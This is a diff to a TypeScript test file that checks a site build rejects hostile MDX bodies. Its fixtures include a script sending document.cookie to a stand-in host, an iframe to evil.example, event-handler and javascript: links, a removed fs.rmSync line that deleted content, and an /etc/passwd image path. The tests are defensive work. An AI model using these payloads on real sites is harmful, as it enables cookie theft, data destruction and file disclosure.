@@ -21,18 +21,21 @@ let content: string;
 let outside: string;
 let result: { code: number; output: string };
 let before: Map<string, string>;
+/** Where the `esm-body` notice would write if its code ever ran: an absolute temp path, never a real folder. */
+let marker: string;
 
 beforeAll(async () => {
   root = tempDir('hostile');
   content = path.join(root, 'content');
   outside = path.join(root, 'elsewhere');
+  marker = path.join(root, 'ran');
   const body = (lines: string[]) => `## How it was hidden\n\n${lines.join('\n\n')}\n`;
   await writeCorpus(content, [
     base('script-body', 1, { body: body(['Found in crates.', '<script>fetch("https://x.example/?"+document.cookie)</script>']) }),
     base('iframe-body', 2, { body: body(['<iframe src="https://evil.example/"></iframe>']) }),
     base('handler-body', 3, { body: body(['Look <span onMouseOver="steal()">here</span>.']) }),
     base('js-link-body', 4, { body: body(['[Open the report](javascript:alert(document.domain))']) }),
-    base('esm-body', 5, { body: `import fs from 'node:fs'\n\nexport const gone = fs.rmSync('content', { recursive: true })\n\nText.\n` }),
+    base('esm-body', 5, { body: `import fs from 'node:fs'\n\nexport const ran = fs.writeFileSync(${JSON.stringify(marker)}, 'ran')\n\nText.\n` }),
     base('expression-body', 6, { body: body(['Weight {process.exit(1)} kg.']) }),
     base('dotdot-image', 7, { images: [{ file: 'photo.jpg', colour: [1, 1, 1], gps: false }], data: { images: [{ src: '../script-body/photo.jpg', alt: 'x', kind: 'photo' }] } }),
     base('absolute-image', 8, { data: { images: [{ src: '/etc/passwd', alt: 'x', kind: 'photo' }] } }),
@@ -113,9 +116,19 @@ describe('hostile bodies, paths and images stop the build, each named', () => {
     expect(result.output).toContain(`body-images/index.mdx:${at('../script-body')} body: An image in the body is not allowed`);
   });
 
-  it('changed no content file (nothing of an editor\'s is lost), and the hostile body ran nothing', () => {
+  it('refuses the import and the export of the hostile body at their lines, and the body ran nothing', () => {
+    const lines = fs.readFileSync(path.join(content, 'notices/esm-body/index.mdx'), 'utf8').split('\n');
+    const lineOf = (start: string) => lines.findIndex((l) => l.startsWith(start)) + 1;
+    expect(lineOf('import fs')).toBeGreaterThan(1);
+    expect(lineOf('export const ran')).toBeGreaterThan(lineOf('import fs'));
+    for (const line of [lineOf('import fs'), lineOf('export const ran')]) {
+      expect(result.output).toContain(`esm-body/index.mdx:${line}:1 body: \`import\`/\`export\` runs code when the site is built`);
+    }
+    expect(fs.existsSync(marker)).toBe(false);
+  });
+
+  it('changed no content file (nothing of an editor\'s is lost)', () => {
     expect(snapshot(content)).toEqual(before);
-    expect(fs.existsSync(path.join(content, 'notices'))).toBe(true);
   });
 });
 
